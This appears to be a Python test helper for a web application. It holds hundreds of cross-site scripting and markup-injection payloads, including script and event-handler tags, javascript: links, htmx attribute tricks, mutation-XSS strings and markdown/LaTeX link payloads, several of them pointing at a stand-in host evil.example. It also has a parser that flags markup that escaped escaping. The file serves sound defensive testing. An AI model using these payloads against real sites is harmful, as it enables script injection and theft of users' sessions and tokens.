"""Text that tries to become markup, and a reader that tells whether it did."""

from __future__ import annotations

from html.parser import HTMLParser

_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "hx-on:click",
)
_TAGS = ("img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "iframe", "math", "marquee", "x")
_FIXED = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    '" hx-get="/people" hx-trigger="load" x="',
    '" hx-on:click="alert(1)" x="',
    '<div hx-get="/people" hx-trigger="load">x</div>',
    "<div hx-vals='js:{a: alert(1)}' hx-post=/sign-out hx-trigger=load></div>",
    '<div data-hx-get="/people" data-hx-trigger="load"></div>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=csrf_token></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x]( javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x](x "onerror=alert(1)")',
    "<javascript:alert(1)>",
    '<https://evil.example/" onclick=alert(1)>',
    "[x]: javascript:alert(1)\n\n[x]",
    "`<img src=x onerror=alert(1)>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<p class=card id=main>x</p>",
    "{{ 7 * 7 }}{% raw %}{{ layout.csrf_token }}",
    "${7*7}<%= 7*7 %>",
    "\u202ereversed\u202c <b>bold</b>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)

PAYLOADS = (
    *_FIXED,
    *(f"<{tag} {event}=alert(1)>" for tag in _TAGS for event in _EVENTS),
    *(f'"><{tag} {event}="alert(1)" ' for tag in _TAGS for event in _EVENTS),
    *(f"**x** <{tag} {event}='alert(1)'>y</{tag.split()[0]}>" for tag in _TAGS for event in _EVENTS),
)

_CODE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    '" onmouseover="alert(1)',
    '"><svg onload=alert(1)>',
    '" class="button button-danger" style="position:fixed;inset:0" data-hx-get="/people" hx-trigger="load" x="',
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "//evil.example/x",
    "\\sign-out",
    "\0<b>\0",
    "\u202e<i>\u2066",
    "jav&#x09;ascript&colon;alert(1)",
    "https://evil.example/</code></pre></math><script>alert(1)</script>",
)
_MARKDOWN = (
    "[x](@@)",
    "[x](<@@>)",
    '[x](https://e.example "@@")',
    "[@@](https://e.example)",
    "![@@](https://e.example/p.png)",
    "![x](@@)",
    "[![x](@@)](@@)",
    "[x]: @@\n\n[x] [x][] ![x][x]",
    "<@@>",
    "https://e.example/@@",
    "`@@`",
    "```@@\nx\n```",
    "```html\n@@\n```",
    "```math\n@@\n```",
    "    @@",
    "# @@",
    "> - @@",
    "| @@ | x |\n|:-:|--:|\n| x | @@ |",
    "~~@@~~ **@@**",
    "1. @@",
    r"$\text{@@}$",
    r"$$\text{@@}$$",
    r"\(\href{@@}{x}\)",
    r"\[\url{@@}\]",
    r"$\class{@@}{x} \style{@@}{x} \htmlId{@@}{x} \htmlData{a=@@}{x}$",
    r"$\includegraphics{@@}$",
    r"$\color{@@}{x} \mathbf{@@} \operatorname{@@}$",
    r"$\begin{array}{@@} a & @@ \end{array}$",
    r"$\newcommand{\a}{@@}\a$",
    r"$\hspace{@@} \rule{@@}{9em}$",
    "$x @@ y$",
)
_MUTATIONS = tuple(
    f"{outer}{inner}"
    for outer in (
        "<math><mtext><table><mglyph><style><!--</style>",
        "<math><annotation-xml encoding=text/html><style>",
        "<math><semantics><annotation-xml encoding='application/xhtml+xml'>",
        "<svg></p><style><a title='</style>",
        "<svg><desc><noscript><p title='</noscript>",
        "<form><math><mtext></form><form><mglyph><style></math>",
        "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>",
        "<math href=javascript:alert(1)><mrow href='javascript:alert(1)'>",
        "<listing>&lt;",
        "<xmp><p title='</xmp>",
        "<select><template><style><a rel='</style>",
        "<textarea><math><mi></textarea>",
    )
    for inner in ("<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<a href=javascript:alert(1)>x</a>")
)
MARKDOWN_PAYLOADS = (*(pattern.replace("@@", code) for pattern in _MARKDOWN for code in _CODE), *_MUTATIONS)
"""For text that is rendered: links, code, tables and formulas around whatever wants out of them."""

_NEVER = {"iframe", "object", "embed", "base", "style", "svg", "video", "audio", "marquee", "template", "x"}
_NEVER |= {"annotation-xml", "semantics", "maction", "mglyph", "malignmark", "noscript", "xmp", "listing"}
_LINKS = ("/", "#", "http://testserver/", "https://", "http://", "mailto:")


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag in _NEVER:
            self.found.append(f"<{tag}>")
        if tag == "math" and "alttext" not in values:
            self.found.append("a formula that is not ours")
        if tag == "script" and not values.get("src", "").startswith("/static/"):
            self.found.append("a script that is not ours")
        if tag == "link" and not values.get("href", "").startswith("/static/"):
            self.found.append("a style sheet that is not ours")
        if tag == "meta" and "http-equiv" in values:
            self.found.append("a refresh")
        if tag == "img" and not values.get("src", "").startswith("/static/"):
            self.found.append("an image that is not ours")
        for name, value in values.items():
            if name.startswith("on") or "hx-on" in name or name == "style" or name == "srcdoc":
                self.found.append(f"the attribute {name}")
            if name == "hx-vals" or name.startswith("data-hx-") or (name == "hx-get" and value == "/people"):
                self.found.append(f"the attribute {name}={value}")
            if name in ("href", "src", "action", "formaction") and not value.startswith(_LINKS):
                self.found.append(f"{name}={value}")


def became_markup(html: str) -> list[str]:
    """Return what in a page could only be there because text became markup; empty is good."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.found
